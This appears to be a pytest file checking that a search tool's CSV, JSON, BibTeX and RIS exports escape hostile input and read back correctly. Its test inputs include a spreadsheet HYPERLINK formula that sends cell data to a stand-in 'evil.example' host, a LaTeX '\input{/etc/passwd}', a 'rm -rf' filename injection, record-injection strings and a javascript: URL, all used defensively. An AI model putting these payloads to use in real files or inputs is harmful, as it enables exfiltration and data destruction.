"""Exports as other programs read them: every file is read back, and what was put in has to come out."""

import csv
import io
import json
import re
from collections.abc import Mapping
from dataclasses import replace
from typing import Any
from urllib.parse import unquote

import pytest
import yaml

from pes_search.index.filters import Filters
from pes_search.index.open_index import OpenIndex
from pes_search.ingest.taxonomy import NO_TAXONOMY, Concept, Taxonomy
from pes_search.ingest.types import Document, InferredValue, Passage
from pes_search.service.editing.exports import COLUMNS, ExportRow, Format, export
from pes_search.service.engine import Engine
from tests.conftest import CORPUS

PDF = "application/pdf"
LINK = "https://pes.example.org/documents/report#report~p3~4-16"
FORMATS: tuple[Format, ...] = ("csv", "json", "bib", "ris")
TAXONOMY = Taxonomy(
    {
        "target-groups": {
            "women": Concept(id="women", terms={"en": ["women"], "de": ["Frauen"]}),
            "school-leavers": Concept(id="school-leavers", terms={"da": ["unge, der forlader"]}),
        },
        "measure-types": {"training": Concept(id="training", terms={"en": ["training"], "de": ["Weiterbildung"]})},
        "channels": {"phone": Concept(id="phone", terms={"en": ["telephone"], "de": ["Telefon"]})},
        "evidence-strengths": {
            "control-group": Concept(id="control-group", terms={"en": ["control group"], "de": ["Kontrollgruppe"]})
        },
    }
)
HOSTILE = (
    'He said "no", twice; a, b',
    "two\nlines\r\nand\rmore\u2028still\x85more\x0bmore",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "{open",
    "close}",
    "}{ }} {{",
    "\\input{/etc/passwd} \\",
    "50 % of R&D_costs #1 $x^2$ ~ \\{\\}",
    "nul\0l \x01\x1b[31m\x7f\x9c",
    "half a character \ud83d here",
    "ER  - \r\nTY  - JOUR\r\nTI  - another",
    "}},\n@article{other, title = {x}",
    '\'quoted\' """ `back`',
)
# What LaTeX prints for each command that an export may use.
PRINTED = {
    r"\textbackslash{}": "\\", r"\textbraceleft{}": "{", r"\textbraceright{}": "}", r"\textasciicircum{}": "^",
    r"\textasciitilde{}": "~", r"\$": "$", r"\&": "&", r"\%": "%", r"\#": "#", r"\_": "_",
}  # fmt: skip
COMMAND = re.compile("|".join(map(re.escape, PRINTED)))


def report(**values: Any) -> Document:
    return Document(
        **{
            "id": "report",
            "title": "A report",
            "kind": "report",
            "language": "de",
            "sha256": "0" * 64,
            "path": "reports/report.pdf",
            "url": "https://example.org/report.pdf",
            "year": 2020,
            "end_year": 2022,
            "native_title": "Ein Bericht",
            "organisation": "AMS",
            "region": "Wien",
            "countries": ("DE", "AT"),
            "target_groups": ("women", "no-such-group"),
            "measure_types": ("training",),
            "channels": ("phone",),
            "evidence": "control-group",
            "evidence_sentence": "Fewer than in a control group.",
            "media_type": PDF,
            **values,
        }
    )


def bare(title: str = "Bare", kind: str = "practice") -> Document:
    """Return a document whose file tells nothing that it need not tell."""
    return Document("bare", title, kind, None, "0" * 64, "bare.md")


def row(document: Document, text: str | None = "Back to\n\nwork", *, rank: int = 1, score: float = -0.25) -> ExportRow:
    if text is None:
        return ExportRow(document, None, None, None, LINK)
    passage = Passage(f"report~p3~4-{4 + len(text)}", document.id, 3, 4, 4 + len(text), ("A report",), "de", text)
    return ExportRow(document, passage, rank, score, LINK)


def one_line(text: str) -> str:
    """Return a text as the formats of one line a value have it."""
    return " ".join("".join(" " if not c.isprintable() else c for c in text).split())


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def read_bib(content: bytes) -> list[tuple[str, str, dict[str, str]]]:
    """Return type, key and fields of each entry, counting braces as BibTeX does: a backslash does not escape them."""
    text, entries = content.decode(), []
    while text.strip():
        head = re.match(r"\s*@(\w+)\{([^\s{},\"#%'()=]+),\n", text)
        assert head, text[:80]
        text = text[head.end() :]
        fields: dict[str, str] = {}
        while field := re.match(r"  (\w+) = \{", text):
            depth, end = 1, field.end()
            while depth:
                depth += {"{": 1, "}": -1}.get(text[end], 0)
                end += 1
            assert field[1] not in fields
            fields[field[1]] = text[field.end() : end - 1]
            assert text[end : end + 2] == ",\n"
            text = text[end + 2 :]
        assert text.startswith("}\n")
        text = text[2:]
        entries.append((head[1], head[2], fields))
    return entries


def printed(value: str) -> str:
    """Return what LaTeX prints of a field, which may not hold a special character that is not part of a known command."""
    if value.startswith("{") and value.endswith("}"):
        value = value[1:-1]
    assert not re.search(r"[\\{}$&%#_^~]", COMMAND.sub("", value)), value
    return COMMAND.sub(lambda match: PRINTED[match[0]], value)


def read_ris(content: bytes) -> list[list[tuple[str, str]]]:
    """Return the lines of each record: any line that is not `XX  - value`, and any break but CRLF, is a fault."""
    text = content.decode()
    assert len(text.splitlines()) == text.count("\r\n")
    records: list[list[tuple[str, str]]] = []
    for part in text.split("ER  - \r\n")[:-1]:
        lines = [re.fullmatch(r"([A-Z][A-Z0-9])  - (.+)", line) for line in part.split("\r\n") if line]
        records.append([(line[1], line[2]) for line in lines if line])
        assert all(lines), part
        assert records[-1][0][0] == "TY"
    assert not text or text.endswith("ER  - \r\n")
    return records


def test_a_table_has_a_row_a_hit_with_labels_in_the_language() -> None:
    content = export([row(report())], "csv", TAXONOMY, language="de").content
    assert read_csv(content) == [
        {
            "rank": "1",
            "score": "-0.25",  # a number: no apostrophe
            "id": "report",
            "title": "A report",
            "native_title": "Ein Bericht",
            "kind": "report",
            "countries": "DE; AT",
            "region": "Wien",
            "organisation": "AMS",
            "year": "2020",
            "end_year": "2022",
            "target_groups": "Frauen; no-such-group",
            "measure_types": "Weiterbildung",
            "channels": "Telefon",
            "evidence": "Kontrollgruppe",
            "evidence_sentence": "Fewer than in a control group.",
            "inferred": "",
            "language": "de",
            "passage": "Back to\n\nwork",
            "page": "3",
            "source": "https://example.org/report.pdf#page=3",
            "link": LINK,
            "visibility": "",
        }
    ]


def test_a_table_starts_with_a_byte_order_mark_and_its_lines_end_as_rfc_4180_has_it() -> None:
    content = export([row(bare(), None)], "csv", TAXONOMY).content
    header = ",".join(COLUMNS).encode()
    cells = b",,bare,Bare,,practice" + b"," * (len(COLUMNS) - 7) + LINK.encode() + b","
    assert content == b"\xef\xbb\xbf" + header + b"\r\n" + cells + b"\r\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\0=", "＝"])
def test_no_cell_starts_as_a_formula(start: str) -> None:
    text = f"{start}1+1"
    document = report(
        title=text, native_title=text, organisation=text, region=text, kind=text, language=text, url=None,
        countries=(text,), target_groups=(text,), measure_types=(text,), channels=(text,),
        evidence=text, evidence_sentence=text,
    )  # fmt: skip
    [cells] = read_csv(export([row(document, text)], "csv", TAXONOMY).content)
    guarded = {name for name, cell in cells.items() if cell == "'" + text.replace("\0", "")}
    assert guarded == {
        "title", "native_title", "kind", "countries", "region", "organisation",
        "target_groups", "measure_types", "channels", "evidence", "evidence_sentence", "language", "passage",
    }  # fmt: skip


def test_an_inner_sign_is_no_formula() -> None:
    [cells] = read_csv(export([row(bare("1 = 1, a-b"), "me@example.org")], "csv", TAXONOMY).content)
    assert (cells["title"], cells["passage"]) == ("1 = 1, a-b", "me@example.org")


def test_json_has_lists_with_ids_and_labels() -> None:
    content = export([row(report())], "json", TAXONOMY, query="zurück", language="de", index_id="abc").content
    values = json.loads(content)
    assert "zurück" in content.decode()  # not escaped
    assert content.decode().startswith('{\n "query"')
    assert values == {
        "query": "zurück",
        "index_id": "abc",
        "results": [
            {
                "rank": 1,
                "score": -0.25,
                "id": "report",
                "title": "A report",
                "native_title": "Ein Bericht",
                "kind": "report",
                "countries": [{"id": "DE", "label": "Deutschland"}, {"id": "AT", "label": "Österreich"}],
                "region": "Wien",
                "organisation": "AMS",
                "year": 2020,
                "end_year": 2022,
                "target_groups": [{"id": "women", "label": "Frauen"}, {"id": "no-such-group", "label": "no-such-group"}],
                "measure_types": [{"id": "training", "label": "Weiterbildung"}],
                "channels": [{"id": "phone", "label": "Telefon"}],
                "evidence": {"id": "control-group", "label": "Kontrollgruppe"},
                "partners": [],
                "evidence_sentence": "Fewer than in a control group.",
                "inferred": [],
                "figures": [],
                "language": "de",
                "passage": {"id": "report~p3~4-17", "page": 3, "text": "Back to\n\nwork"},
                "source": "https://example.org/report.pdf#page=3",
                "link": LINK,
                "visibility": "",
            }
        ],
    }


def test_bibtex_has_a_technical_report() -> None:
    assert export([row(report())], "bib", TAXONOMY).content.decode() == (
        "@techreport{report,\n"
        "  title = {{A report}},\n"
        "  author = {{AMS}},\n"
        "  institution = {{AMS}},\n"
        "  year = {2020},\n"
        "  url = {https://example.org/report.pdf},\n"
        "  note = {Country: Germany, Austria; target groups: women, no-such-group},\n"
        "  language = {de},\n"
        "  keywords = {women, no-such-group, training, telephone},\n"
        "}\n"
    )


@pytest.mark.parametrize(
    ("kind", "bibtex", "ris"),
    [
        ("practice", "misc", "RPRT"),
        ("news", "misc", "NEWS"),
        ("report", "techreport", "RPRT"),
        ("factsheet", "techreport", "RPRT"),
        ("case study", "misc", "RPRT"),
    ],
)
def test_a_kind_has_its_entry_type(kind: str, bibtex: str, ris: str) -> None:
    rows = [row(report(kind=kind))]
    [(entry_type, _, fields)] = read_bib(export(rows, "bib", TAXONOMY).content)
    assert (entry_type, "institution" in fields, "howpublished" in fields) == (bibtex, bibtex == "techreport", bibtex == "misc")
    [record] = read_ris(export(rows, "ris", TAXONOMY).content)
    assert record[0] == ("TY", ris)


def test_ris_has_a_keyword_a_line_and_the_passage_on_one() -> None:
    assert export([row(report())], "ris", TAXONOMY, language="de").content.decode() == (
        "TY  - RPRT\r\n"
        "ID  - report\r\n"
        "TI  - A report\r\n"
        "TT  - Ein Bericht\r\n"
        "AU  - AMS\r\n"
        "PY  - 2020\r\n"
        "UR  - https://example.org/report.pdf\r\n"
        f"L2  - {LINK}\r\n"
        "LA  - de\r\n"
        "CY  - Deutschland, Österreich\r\n"
        "KW  - Frauen\r\n"
        "KW  - no-such-group\r\n"
        "KW  - Weiterbildung\r\n"
        "KW  - Telefon\r\n"
        "AB  - Back to work\r\n"
        "ER  - \r\n"
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_comes_out_as_it_went_in(text: str) -> None:
    rows = [row(report(title=text, native_title=text, organisation=text, target_groups=(text,)), text), row(bare(), rank=2)]
    files = {form: export(rows, form, TAXONOMY, query=text).content for form in FORMATS}
    kept = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\ud800-\udfff]", "", text)

    table = read_csv(files["csv"])
    for name in ("title", "native_title", "organisation", "target_groups", "passage"):
        assert table[0][name].removeprefix("'" if text.startswith("=") else "") == kept
    assert table[1]["title"] == "Bare"

    value = json.loads(files["json"])
    whole = text.replace("\ud83d", "?")  # half a character cannot be written
    assert [value["query"], *(value["results"][0][name] for name in ("title", "native_title", "organisation"))] == [whole] * 4
    assert [value["title"] for value in value["results"]] == [whole, "Bare"]

    first, second = read_bib(files["bib"])
    assert (first[:2], second[:2]) == (("techreport", "report"), ("misc", "bare"))
    assert {printed(first[2][name]) for name in ("title", "author", "institution")} == {one_line(text)}
    assert printed(first[2]["note"]) == f"Country: Germany, Austria; target groups: {one_line(text)}"

    records = read_ris(files["ris"])
    assert [dict(record)["ID"] for record in records] == ["report", "bare"]
    assert {dict(records[0])[tag] for tag in ("TI", "TT", "AU", "AB")} == {one_line(text)}


def test_letters_of_any_script_stay() -> None:
    text = "Επιστροφή στην εργασία – възвръщане, עבודה, 就业 😀 ø"
    rows = [row(report(title=text, organisation=text), text)]
    assert read_csv(export(rows, "csv", TAXONOMY).content)[0]["title"] == text
    assert json.loads(export(rows, "json", TAXONOMY).content)["results"][0]["title"] == text
    assert printed(read_bib(export(rows, "bib", TAXONOMY).content)[0][2]["author"]) == text
    assert dict(read_ris(export(rows, "ris", TAXONOMY).content)[0])["AB"] == text


def test_what_nothing_states_is_marked_in_every_format() -> None:
    inferred = (
        InferredValue("countries", "AT", 0.95, "Back to work in Austria.", "report~p3~4-17"),
        InferredValue("target_groups", "women", 0.85, "Women back to work", None),
    )
    rows = [row(report(countries=("AT",), target_groups=("women",), inferred=inferred))]
    [cells] = read_csv(export(rows, "csv", TAXONOMY).content)
    assert cells["inferred"] == "countries AT (0.95): Back to work in Austria.; target_groups women (0.85): Women back to work"
    [value] = json.loads(export(rows, "json", TAXONOMY).content)["results"]
    assert value["inferred"][0] == {
        "field": "countries",
        "value": "AT",
        "confidence": 0.95,
        "sentence": "Back to work in Austria.",
        "passage_id": "report~p3~4-17",
    }
    [entry] = read_bib(export(rows, "bib", TAXONOMY).content)
    assert printed(entry[2]["note"]) == "Country: Austria; target groups: women; inferred: countries, target groups"
    assert ("N1", "inferred: countries, target groups") in read_ris(export(rows, "ris", TAXONOMY).content)[0]


def test_a_document_that_tells_nothing_leaves_no_empty_fields() -> None:
    rows = [row(bare(), None)]
    [cells] = read_csv(export(rows, "csv", TAXONOMY).content)
    assert {name: cell for name, cell in cells.items() if cell} == {
        "id": "bare",
        "title": "Bare",
        "kind": "practice",
        "link": LINK,
    }
    [value] = json.loads(export(rows, "json", TAXONOMY).content)["results"]
    assert {name for name, field in value.items() if field is None} == {
        "rank", "score", "native_title", "region", "organisation", "year", "end_year", "evidence",
        "evidence_sentence", "language", "passage", "source",
    }  # fmt: skip
    assert {name for name, field in value.items() if field == []} == {
        "countries", "target_groups", "measure_types", "channels", "partners", "inferred", "figures",
    }  # fmt: skip
    assert read_bib(export(rows, "bib", TAXONOMY).content) == [("misc", "bare", {"title": "{Bare}"})]
    assert read_ris(export(rows, "ris", TAXONOMY).content) == [[("TY", "RPRT"), ("ID", "bare"), ("TI", "Bare"), ("L2", LINK)]]


def test_no_rows_make_a_file_without_entries() -> None:
    files = {form: export([], form, TAXONOMY, query="q", index_id="abc").content for form in FORMATS}
    assert read_csv(files["csv"]) == []
    assert files["csv"].decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"
    assert json.loads(files["json"]) == {"query": "q", "index_id": "abc", "results": []}
    assert (files["bib"], files["ris"]) == (b"", b"")


def test_a_document_with_two_passages_is_one_entry_and_two_rows() -> None:
    rows = [row(report(), "first"), row(report(), "second", rank=2)]
    assert [cells["passage"] for cells in read_csv(export(rows, "csv", TAXONOMY).content)] == ["first", "second"]
    assert [key for _, key, _ in read_bib(export(rows, "bib", TAXONOMY).content)] == ["report"]
    assert [dict(record)["AB"] for record in read_ris(export(rows, "ris", TAXONOMY).content)] == ["first"]


def test_citation_keys_are_safe_and_differ_whatever_the_case() -> None:
    ids = ("a_b-c:1", "übung, {x}", "bung-x", "A", "a", "a-2", "δ")
    entries = read_bib(export([row(report(id=document_id)) for document_id in ids], "bib", TAXONOMY).content)
    assert [key for _, key, _ in entries] == ["a_b-c:1", "bung-x", "bung-x-2", "A", "a-2", "a-2-2", "document"]


def test_an_address_in_bibtex_keeps_all_but_what_breaks_braces() -> None:
    url = "https://example.org/a%20b_c~d/{x}?q=1&r=\\#50%\n$^"
    [(_, _, fields)] = read_bib(export([row(report(url=url, media_type="text/html"))], "bib", TAXONOMY).content)
    assert fields["url"] == "https://example.org/a%20b_c~d/%7Bx%7D?q=1&r=%5C#50%%20$^"
    assert unquote(fields["url"].replace("a%20b", "a b")) == url.replace("a%20b", "a b").replace("\n", " ")


def test_no_source_is_given_that_a_browser_should_not_follow() -> None:
    rows = [row(report(url="javascript:alert(1)"))]
    assert all(b"javascript" not in export(rows, form, TAXONOMY).content for form in FORMATS)


def test_a_comma_in_a_label_makes_no_second_keyword() -> None:
    rows = [row(report(target_groups=("school-leavers",)))]
    [(_, _, fields)] = read_bib(export(rows, "bib", TAXONOMY, language="da").content)
    assert fields["keywords"].split(", ") == ["unge der forlader", "training", "telephone"]
    [record] = read_ris(export(rows, "ris", TAXONOMY, language="da").content)
    assert [value for tag, value in record if tag == "KW"] == ["unge, der forlader", "training", "telephone"]


@pytest.mark.parametrize("language", ["xx", "", "not a language"])
def test_a_language_that_nobody_speaks_gets_english_names(language: str) -> None:
    [value] = json.loads(export([row(report(countries=("EU", "QQ")))], "json", TAXONOMY, language=language).content)["results"]
    assert value["countries"] == [{"id": "EU", "label": "European Union"}, {"id": "QQ", "label": "QQ"}]
    assert value["channels"] == [{"id": "phone", "label": "telephone"}]


def test_without_lists_the_ids_stand_as_labels() -> None:
    [cells] = read_csv(export([row(report())], "csv", NO_TAXONOMY).content)
    assert (cells["target_groups"], cells["channels"]) == ("women; no-such-group", "phone")


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("", "pes-search"),
        ("Back to work?", "pes-search-back-to-work"),
        ("Köln: młodzież / Größe", "pes-search-koln-mlodziez-grosse"),
        ("Επιστροφή", "pes-search"),
        ('"; rm -rf ../..\r\nX: y', "pes-search-rm-rf-x-y"),
        ("a" * 39 + " b", "pes-search-" + "a" * 39),  # the 40th character would be a hyphen
        ("a" * 90, "pes-search-" + "a" * 40),
    ],
)
def test_the_file_is_called_after_the_query(query: str, name: str) -> None:
    assert [export([], form, TAXONOMY, query=query).filename for form in FORMATS] == [f"{name}.{form}" for form in FORMATS]


def test_each_format_has_its_media_type() -> None:
    assert [export([], form, TAXONOMY).media_type for form in FORMATS] == [
        "text/csv; charset=utf-8",
        "application/json",
        "application/x-bibtex; charset=utf-8",
        "application/x-research-info-systems; charset=utf-8",
    ]


@pytest.mark.parametrize("language", ["en", "de", "da", "bg"])
def test_the_whole_corpus_comes_out_as_its_files_have_it(
    corpus_index: OpenIndex, corpus_files: Mapping[str, Mapping[str, Any]], language: str
) -> None:
    rows = [
        ExportRow(
            document, corpus_index.text(document.id).passages[0], rank, 1 / rank, f"https://pes.example.org/{document.id}"
        )
        for rank, document in enumerate(corpus_index.stored.documents(Filters()), 1)
        if document.id in corpus_files
    ]
    taxonomy = corpus_index.taxonomy
    concepts = yaml.safe_load((CORPUS / "taxonomy" / "target-groups.yaml").read_text("utf-8"))
    terms = {concept["id"]: concept["terms"] for concept in concepts}
    files = {form: export(rows, form, taxonomy, language=language).content for form in FORMATS}
    titles = [(document_id, corpus_files[document_id]["title"]) for document_id in sorted(corpus_files)]
    assert [(cells["id"], cells["title"]) for cells in read_csv(files["csv"])] == titles
    results = json.loads(files["json"])["results"]
    assert [(value["id"], value["title"]) for value in results] == titles
    for value in results:
        assert [country["id"] for country in value["countries"]] == corpus_files[value["id"]]["countries"]
        groups = corpus_files[value["id"]]["target_groups"]
        assert value["target_groups"] == [{"id": group, "label": terms[group][language][0]} for group in groups]
    entries = read_bib(files["bib"])
    assert [(key, printed(fields["title"])) for _, key, fields in entries] == titles
    assert all(printed(fields["note"]) for _, _, fields in entries)
    records = [dict(record) for record in read_ris(files["ris"])]
    assert [(record["ID"], record["TI"]) for record in records] == titles
    assert [record["AB"] for record in records] == [
        " ".join(export_row.passage.text.split()) for export_row in rows if export_row.passage
    ]


def test_hits_of_a_search_can_be_exported(engine: Engine) -> None:
    index = engine.index()
    query = "Wiedereinstieg nach der Familienpause"
    hits = engine.search(index, query, k=5, offset=0, group="document", filters=Filters()).hits
    rows = [ExportRow(hit.document, hit.passage, hit.rank, hit.score, LINK) for hit in hits]
    results = json.loads(export(rows, "json", index.taxonomy, query=query, language="de").content)["results"]
    assert [(value["rank"], value["score"], value["passage"]["id"]) for value in results] == [
        (hit.rank, hit.score, hit.passage.id) for hit in hits
    ]
    table = read_csv(export(rows, "csv", index.taxonomy, query=query, language="de").content)
    assert [(int(cells["rank"]), float(cells["score"])) for cells in table] == [(hit.rank, hit.score) for hit in hits]


@pytest.mark.parametrize("form", FORMATS)
def test_a_file_tells_which_documents_are_not_for_everybody(form: Format) -> None:
    content = export([row(bare()), row(replace(bare(), id="closed", visibility="board+internal"))], form, TAXONOMY).content
    assert content.decode().count("board+internal") == 1
